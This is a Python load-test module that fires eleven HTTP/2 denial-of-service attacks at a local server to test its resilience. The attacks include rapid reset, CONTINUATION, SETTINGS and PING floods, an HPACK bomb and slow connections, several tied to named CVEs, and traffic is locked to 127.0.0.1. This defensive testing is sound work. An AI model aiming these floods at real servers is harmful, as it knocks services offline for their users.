"""Hostile peers, each in its own process, at full rate for a few seconds: `python -m loadtests.clients.hostile`.

    python -m loadtests.clients.hostile HOST:PORT "ping flood" --seconds 3 \\
        --path /signalbox.v1.Scorer/Score --message FILE

An attack is a function of a `Line`, a connection that begins again whenever the server ends it. It writes one JSON
document: `megabytes` sent, `connections` opened, `closed` by the server. Traffic goes to 127.0.0.1 alone.
"""

from __future__ import annotations

import argparse
import itertools
import json
import random
import socket
import time
from collections.abc import Callable, Mapping
from pathlib import Path
from struct import Struct

from loadtests.clients import wire
from serving.transport.http2 import frames
from serving.transport.http2.errors import ErrorCode
from serving.transport.http2.frames import Setting
from serving.transport.http2.hpack import Encoder

LOOPBACK = "127.0.0.1"
_STEP = 500  # requests made at once
_BOMBS = 4
_PATIENCE = Struct("ll").pack(0, 200_000)  # that a server may take nothing, before the attack goes on elsewhere: 0.2 s
_SLOW = 300
_SLOW_STEP_SECONDS = 0.05
_UNREAD = 16  # connections
_OPEN_WINDOWS = wire.settings({Setting.INITIAL_WINDOW_SIZE: 2**31 - 1}) + frames.window_update(0, 2**31 - 65_536)


class Line:
    """Connections to one server, one at a time, and what has been sent on all of them.

    path, message: of a call that the server would serve.
    """

    def __init__(self, port: int, seconds: float, path: str, message: bytes) -> None:
        self.block = Encoder().encode(wire.Requests(LOOPBACK).fields(path))
        self.content = wire.grpc(message)
        self.sent = 0
        self.opened = 0
        self.closed = 0
        self._port = port
        self._until = time.monotonic() + seconds
        self._socket: socket.socket | None = None

    @property
    def goes_on(self) -> bool:
        """Whether there is time left."""
        return time.monotonic() < self._until

    def open(self, first: bytes = wire.PREFACE, *, buffer: int = 0) -> socket.socket:
        """A new connection that has sent `first`. buffer: bytes that it takes in without being read."""
        made = socket.socket()
        if buffer:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
        # The kernel's own limit: Python's would have `recv` wait, too.
        made.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, _PATIENCE)
        made.connect((LOOPBACK, self._port))
        made.sendall(first)
        self.opened += 1
        return made

    def begin(self) -> None:
        """Begins again, on a connection of which the server knows nothing yet."""
        self.end()
        while self.goes_on and self._socket is None:
            try:
                self._socket = self.open()
            except OSError:
                continue  # it takes no more for now

    def end(self) -> None:
        """Gives the connection up."""
        if self._socket is not None:
            self._socket.close()
            self._socket = None

    def send(self, data: bytes) -> bool:
        """Sends `data` and throws away what has come back; whether the connection lives."""
        if self._socket is None:
            return False
        try:
            self._socket.sendall(data)
            self.sent += len(data)
            if _has_ended(self._socket):
                raise ConnectionError
        except OSError:  # it was closed, or nothing of it is read
            self.closed += 1
            return False
        return True

    def calls(self, first: int, count: int, *, tail: Callable[[int], bytes] = lambda stream_id: b"") -> bytes:
        """Whole calls on `count` streams from `first` on, and `tail` behind each."""
        return b"".join(
            wire.head(stream_id, self.block) + wire.data(stream_id, self.content, end=True) + tail(stream_id)
            for stream_id in range(first, first + 2 * count, 2)
        )


Attack = Callable[[Line], None]


def _has_ended(connection: socket.socket) -> bool:
    """Throws away what has come back; whether the server has ended the connection."""
    try:
        while connection.recv(2**18, socket.MSG_DONTWAIT):
            pass
    except BlockingIOError:
        return False
    return True


def _repeat(line: Line, first: bytes, more: bytes) -> None:
    """`first` on every new connection, then `more` as long as it lives."""
    while line.goes_on:
        line.begin()
        alive = line.send(first)
        while alive and line.goes_on:
            alive = line.send(more)


def _streams(line: Line, make: Callable[[int], bytes], first: bytes = b"", *, step: int = _STEP) -> None:
    """Steps of `step` streams, their numbers rising, as long as each connection lives. Steps are made once."""
    steps: list[bytes] = []
    while line.goes_on:
        line.begin()
        alive = line.send(first)
        for at in itertools.count():
            if not alive or not line.goes_on:
                break
            if at == len(steps):
                steps.append(make(1 + 2 * step * at))
            alive = line.send(steps[at])


def rapid_reset(line: Line) -> None:
    """Whole calls, each given up at once (CVE-2023-44487)."""
    _streams(line, lambda at: line.calls(at, _STEP, tail=lambda each: frames.rst_stream(each, ErrorCode.CANCEL)))


def made_to_reset(line: Line) -> None:
    """Whole calls, each followed by what makes the server reset it (CVE-2025-8671)."""
    _streams(line, lambda at: line.calls(at, _STEP, tail=lambda each: frames.window_update(each, 0)))


def continuation(line: Line) -> None:
    """A header block that never ends (CVE-2024-27316)."""
    field = b"\x00\x05x-abc\x7f\x00" + b"y" * 127
    part = (field * (frames.LEAST_MAX_FRAME_BYTES // len(field)))[: frames.LEAST_MAX_FRAME_BYTES]
    _repeat(line, wire.head(1, line.block, flags=0), frames.frame(frames.CONTINUATION, 0, 1, part) * 8)


def settings(line: Line) -> None:
    """SETTINGS, each of which must be acknowledged (CVE-2019-9515)."""
    _repeat(line, b"", wire.settings({Setting.INITIAL_WINDOW_SIZE: 65_535}) * 5000)


def ping(line: Line) -> None:
    """PING, each of which must be answered (CVE-2019-9512)."""
    _repeat(line, b"", wire.ping() * 5000)


def empty_data(line: Line) -> None:
    """DATA without content and without an end (CVE-2019-9518)."""
    _repeat(line, wire.head(1, line.block), wire.data(1, b"") * 5000)


def window(line: Line) -> None:
    """WINDOW_UPDATE by one byte (CVE-2019-9511)."""
    _repeat(line, b"", frames.window_update(0, 1) * 5000)


def hpack_bomb(line: Line) -> None:
    """A large field in the header table, then named by one byte thousands of times in every block."""
    large = b"\x40\x06x-bomb\x7f\xa1\x1e" + b"y" * 4000  # a literal that enters the table
    bomb = line.block + b"\xbe" * (frames.LEAST_MAX_FRAME_BYTES - len(line.block))

    def some(at: int) -> bytes:
        return b"".join(wire.head(each, bomb, end=True) for each in range(at + 2, at + 2 * _BOMBS + 2, 2))

    _streams(line, some, wire.head(1, line.block + large, end=True), step=_BOMBS)


def garbage(line: Line) -> None:
    """Bytes that mean nothing: before the preface, behind it, and as the content of frames."""
    rng = random.Random(7)  # noqa: S311 - nothing secret
    noise = [rng.randbytes(2000) for _ in range(50)]
    kinds = itertools.cycle([*range(10), 77])
    while line.goes_on:
        line.begin()
        sent = line.send(rng.choice(noise)[: rng.randrange(1, 2000)])
        while sent and line.goes_on:
            payload = rng.choice(noise)[: rng.randrange(64)]
            sent = line.send(frames.frame(next(kinds), rng.randrange(256), rng.randrange(9), payload))


def never_reads(line: Line) -> None:
    """Calls whose answers are left unread, on as many connections as a client may well have; each sends what it can.

    Not on hundreds: millions of calls that are asked for in earnest are an overload, whoever reads their answers.
    """
    unread: dict[int, tuple[socket.socket, memoryview]] = {}  # and what is left to send
    calls = wire.PREFACE + _OPEN_WINDOWS + line.calls(1, 20_000)
    while line.goes_on:
        for at in range(_UNREAD):
            try:
                if at not in unread:
                    unread[at] = line.open(b"", buffer=4096), memoryview(calls)
                connection, left = unread[at]
                sent = connection.send(left)
                unread[at] = connection, left[sent:]
                line.sent += sent
            except BlockingIOError:
                continue  # it takes no more of this one for now
            except OSError:
                line.closed += 1
                if at in unread:
                    unread.pop(at)[0].close()
    for connection, _ in unread.values():
        connection.close()


def slow_connections(line: Line) -> None:
    """300 connections that say little, or nothing, a byte at a time; those that are closed come again."""
    beginnings = [
        b"",
        frames.PREFACE[:9],
        wire.PREFACE[:-4],
        wire.PREFACE + wire.head(1, line.block)[:20],
        wire.PREFACE + wire.head(1, line.block) + wire.data(1, line.content)[:12],
        wire.PREFACE + wire.head(1, line.block, flags=0),
    ]
    waiting: dict[int, socket.socket] = {}
    while line.goes_on:
        for at in range(_SLOW):
            _go_on_slowly(line, waiting, at, beginnings[at % len(beginnings)])
        time.sleep(_SLOW_STEP_SECONDS)
    for each in waiting.values():
        each.close()


def _go_on_slowly(line: Line, waiting: dict[int, socket.socket], at: int, beginning: bytes) -> None:
    try:
        if at not in waiting:
            waiting[at] = line.open(beginning)
        elif _has_ended(waiting[at]):
            raise ConnectionError
        line.sent += waiting[at].send(b"\0")
    except OSError:
        line.closed += 1
        if at in waiting:
            waiting.pop(at).close()


ATTACKS: Mapping[str, Attack] = {
    "rapid reset": rapid_reset,
    "continuation flood": continuation,
    "settings flood": settings,
    "ping flood": ping,
    "empty data flood": empty_data,
    "window flood": window,
    "a peer that never reads": never_reads,
    "HPACK bomb": hpack_bomb,
    "300 slow connections": slow_connections,
    "garbage": garbage,
    "made to reset": made_to_reset,
}


def main() -> None:
    """See the module."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("address")
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--seconds", type=float, default=3.0)
    parser.add_argument("--path", required=True)
    parser.add_argument("--message", type=Path, required=True)
    told = parser.parse_args()
    host, _, port = told.address.rpartition(":")
    if host != LOOPBACK:
        parser.error(f"expected a server on {LOOPBACK}, found {host}")
    line = Line(int(port), told.seconds, told.path, told.message.read_bytes())
    ATTACKS[told.attack](line)
    line.end()
    print(json.dumps({"megabytes": round(line.sent / 1e6, 3), "connections": line.opened, "closed": line.closed}))


if __name__ == "__main__":
    main()
